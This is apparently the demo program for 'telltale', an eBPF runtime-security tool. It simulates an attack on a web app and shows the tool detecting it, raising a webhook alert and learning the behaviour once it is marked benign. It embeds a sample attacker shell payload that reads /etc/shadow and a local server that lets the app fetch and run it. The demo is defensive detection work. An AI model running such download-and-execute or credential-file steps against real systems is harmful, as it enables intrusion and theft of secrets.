//! The demo (the README's main job): a web app is learned, an attacker gets
//! it to download and run a shell script, telltale raises a signal; the
//! signal is marked benign and the same actions no longer signal.
//!
//! Needs root (eBPF). Run from the repository: `scripts/demo.sh`.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};
use telltale_client::{
    Benign, Client, LearningState, NotificationRule, NotificationTarget, SignalSummary, SignalUpdate,
};
use telltale_sidecar::workload::cgroup::{Cgroup, OwnedCgroup};

const IMAGE: &str = "registry.example.com:5000/shop/cws-webapp:v2@sha256:4c5e1a";
const PAYLOAD: &str =
    "#!/bin/sh\n# attacker payload: look around, grab secrets\nid\nuname -a\ncat /etc/shadow > /dev/null 2>&1\n";

fn bin(dir: &Path, name: &str) -> Result<PathBuf> {
    let p = dir.join(name);
    if !p.exists() {
        bail!(
            "{} is missing: build with `cargo build --release -p telltale-sidecar -p telltale-examples`",
            p.display()
        );
    }
    Ok(p)
}

/// Run a command inside a container cgroup and wait for it.
fn run_in(container: &Cgroup, argv: &[&str]) -> Result<String> {
    let procs = container.path.join("cgroup.procs");
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!("echo $$ > {} && exec \"$@\"", procs.display()))
        .arg("sh")
        .args(argv)
        .output()?;
    if !out.status.success() {
        bail!("{argv:?} failed: {}", String::from_utf8_lossy(&out.stderr));
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// (signature header, body) of every notification received.
type Received = std::sync::Arc<std::sync::Mutex<Vec<(String, String)>>>;

/// The SOC's webhook receiver: keeps every notification body it gets.
fn webhook_receiver() -> Result<(String, Received)> {
    let l = TcpListener::bind("127.0.0.1:0")?;
    let addr = format!("http://{}/telltale", l.local_addr()?);
    let got: Received = Default::default();
    let store = got.clone();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            let mut r = BufReader::new(s);
            let (mut len, mut sig, mut line) = (0usize, String::new(), String::new());
            while r.read_line(&mut line).map(|n| n > 0).unwrap_or(false) && line != "\r\n" {
                let lower = line.to_ascii_lowercase();
                if let Some(v) = lower.strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap_or(0);
                }
                if lower.starts_with("x-telltale-signature:") {
                    sig = line.split_once(':').map(|x| x.1.trim().to_owned()).unwrap_or_default();
                }
                line.clear();
            }
            let mut body = vec![0u8; len];
            let _ = std::io::Read::read_exact(&mut r, &mut body);
            if let Ok(mut g) = store.lock() {
                g.push((sig, String::from_utf8_lossy(&body).into_owned()));
            }
            let mut s = r.into_inner();
            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    Ok((addr, got))
}

/// An attacker's web server: serves the payload to whoever asks.
fn attacker_server() -> Result<String> {
    let l = TcpListener::bind("127.0.0.1:0")?;
    let addr = l.local_addr()?;
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            // Read the whole request head before answering and closing.
            let mut r = BufReader::new(s);
            let mut line = String::new();
            while r.read_line(&mut line).map(|n| n > 0).unwrap_or(false) && line != "\r\n" {
                line.clear();
            }
            let mut s = r.into_inner();
            let _ = write!(s, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{PAYLOAD}", PAYLOAD.len());
            let _ = s.flush();
        }
    });
    Ok(format!("http://{addr}/payload.sh"))
}

fn section(title: &str) {
    println!("\n=== {title} ===");
}

async fn wait_stable(client: &Client) -> Result<()> {
    let start = Instant::now();
    loop {
        let st = client.learning_status(Some("cws-webapp")).await?;
        if st.iter().all(|p| p.types.iter().all(|t| t.state == LearningState::Stable)) {
            return Ok(());
        }
        if start.elapsed() > Duration::from_secs(60) {
            bail!("the profile did not become stable in 60 s");
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

/// GET an `http://host:port/path` URL (plain HTTP/1.1, the body).
fn scrape(url: &str) -> Result<String> {
    use std::io::{Read, Write};
    let rest = url.strip_prefix("http://").context("not an http:// URL")?;
    let (host, path) = rest.split_once('/').map_or((rest, "/".to_owned()), |(h, p)| (h, format!("/{p}")));
    let mut stream = std::net::TcpStream::connect(host)?;
    write!(stream, "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")?;
    let mut text = String::new();
    stream.read_to_string(&mut text)?;
    let (head, body) = text.split_once("\r\n\r\n").context("no HTTP response")?;
    if !head.starts_with("HTTP/1.1 200") {
        bail!("GET {url}: {}", head.lines().next().unwrap_or_default());
    }
    Ok(body.to_owned())
}

async fn open_signals(client: &Client) -> Result<Vec<SignalSummary>> {
    Ok(client.signals("container:webapp status:open").await?)
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    let dir = std::env::current_exe()?.parent().context("exe dir")?.to_owned();
    let (telltale, webapp) = (bin(&dir, "telltale")?, bin(&dir, "demo-webapp")?);
    let work = std::env::temp_dir().join(format!("telltale-demo-{}", std::process::id()));
    std::fs::create_dir_all(&work)?;
    let pod = OwnedCgroup::create("telltale-demo-pod")?;
    let container = pod.cgroup().create_child("webapp")?;
    let config = work.join("telltale.toml");
    std::fs::write(
        &config,
        format!(
            "data_dir = \"{}\"\n[learning]\nmin_duration = \"3s\"\nstable_period = \"3s\"\nmax_duration = \"120s\"\nwarmup = \"0s\"\n\
             [notifications]\nrate_limit = \"2s\"\n[api]\nlisten = \"127.0.0.1:0\"\n\
             [telemetry.prometheus]\nenabled = true\nlisten = \"127.0.0.1:0\"\n[[containers]]\ncgroup = \"webapp\"\nimage = \"{IMAGE}\"\n",
            work.join("data").display()
        ),
    )?;

    section("1. telltale watches the pod (learning: 3 s minimum, 3 s quiet)");
    let mut daemon = Command::new(&telltale)
        .args(["run", "--config"])
        .arg(&config)
        .arg("--cgroup")
        .arg(&pod.cgroup().path)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .context("starting telltale run")?;
    let mut stderr = BufReader::new(daemon.stderr.take().context("stderr")?);
    let mut line = String::new();
    stderr.read_line(&mut line)?;
    print!("{line}");
    let after = |marker: &str| line.trim().split(marker).nth(1).and_then(|r| r.split(';').next()).map(str::to_owned);
    // The local admin socket: this demo runs outside the watched pod, so
    // it administers without a token (TCP would need one; the web app,
    // inside the pod, gets neither).
    let socket = after("; admin socket ").map(|p| format!("unix://{p}")).context("no admin socket")?;
    let metrics_url = after("; metrics on ").context("no metrics address")?;
    std::thread::spawn(move || for _ in stderr.lines() {});
    let client = Client::builder(socket).connect().await?;

    section("2. the web app runs normally and is learned");
    for _ in 0..3 {
        print!("{}", run_in(&container, &[webapp.to_str().context("path")?])?);
    }
    wait_stable(&client).await?;
    for p in client.learning_status(Some("cws-webapp")).await? {
        let states: Vec<String> =
            p.types.iter().map(|t| format!("{}={} ({} behaviours)", t.event_type, t.state, t.behaviours)).collect();
        println!("profile {} (versions {}): {}", p.image, p.tags.join(","), states.join(", "));
    }

    let (hook_url, received) = webhook_receiver()?;
    let rule = client
        .create_rule(NotificationRule {
            name: "anomalies to the SOC webhook".into(),
            enabled: true,
            query: "rule_id:anomaly_detection".into(),
            targets: vec![NotificationTarget::Webhook {
                url: hook_url.clone(),
                secret: Some("demo-secret".into()),
                headers: Default::default(),
            }],
            notify_on_update: true,
            id: String::new(),
        })
        .await?;
    println!("notification rule {} -> webhook {hook_url} (HMAC-signed)", rule.id);

    section("3. an attacker makes the app download a shell script and run it");
    let url = attacker_server()?;
    print!("{}", run_in(&container, &[webapp.to_str().context("path")?, "--exploit", &url])?);
    let start = Instant::now();
    let signal = loop {
        let open = open_signals(&client).await?;
        if let Some(s) = open.first() {
            // Let the payload's last actions land in the signal too.
            tokio::time::sleep(Duration::from_millis(800)).await;
            break client.signal(&s.id).await?;
        }
        if start.elapsed() > Duration::from_secs(20) {
            bail!("no signal was raised");
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    print!("{signal}");
    let start = Instant::now();
    let (sig, body) = loop {
        if let Some(n) = received.lock().ok().and_then(|g| g.last().cloned()) {
            break n;
        }
        if start.elapsed() > Duration::from_secs(15) {
            bail!("no webhook notification arrived");
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let v: serde_json::Value = serde_json::from_str(&body).context("webhook body is JSON")?;
    println!("\nWebhook notification received by the local listener");
    println!("  X-Telltale-Signature: {sig}");
    println!(
        "  event={} signal={} severity={} anomalies={}",
        v["event"].as_str().unwrap_or(""),
        v["signal"]["id"].as_str().unwrap_or(""),
        v["signal"]["severity"].as_str().unwrap_or(""),
        v["signal"]["entries"].as_array().map_or(0, Vec::len)
    );

    section("4. the team decides it was a sanctioned test: mark benign");
    let id = signal.summary.id.clone();
    let r = client.update_signal(SignalUpdate::new(id.clone()).benign(Benign::All)).await?;
    println!("signal {id} archived; {} behaviour(s) added to the cws-webapp profile", r.behaviours_added);

    section("5. the same actions again: no new signal");
    print!("{}", run_in(&container, &[webapp.to_str().context("path")?, "--exploit", &url])?);
    tokio::time::sleep(Duration::from_secs(2)).await;
    let open = open_signals(&client).await?;
    if open.is_empty() {
        println!("no open signal for the webapp container: the profile now knows these actions");
    } else {
        bail!("a new signal was raised: {open:?}");
    }

    section("6. what the observability stack sees (Prometheus endpoint; the same goes out over OTLP)");
    for line in scrape(&metrics_url)?.lines().filter(|l| {
        [
            "telltale_events_total",
            "telltale_kernel_repeats_dropped_total",
            "telltale_kernel_known_filtered_total",
            "telltale_anomalies_total",
            "telltale_signals{",
            "telltale_notifications_delivered_total",
        ]
        .iter()
        .any(|m| l.starts_with(m))
    }) {
        println!("{line}");
    }

    // SAFETY: plain kill(2) on our child.
    unsafe { libc::kill(daemon.id() as i32, libc::SIGTERM) };
    let _ = daemon.wait();
    drop(pod);
    let _ = std::fs::remove_dir_all(&work);
    let _ = std::fs::remove_dir_all("/tmp/telltale-demo");
    Ok(())
}
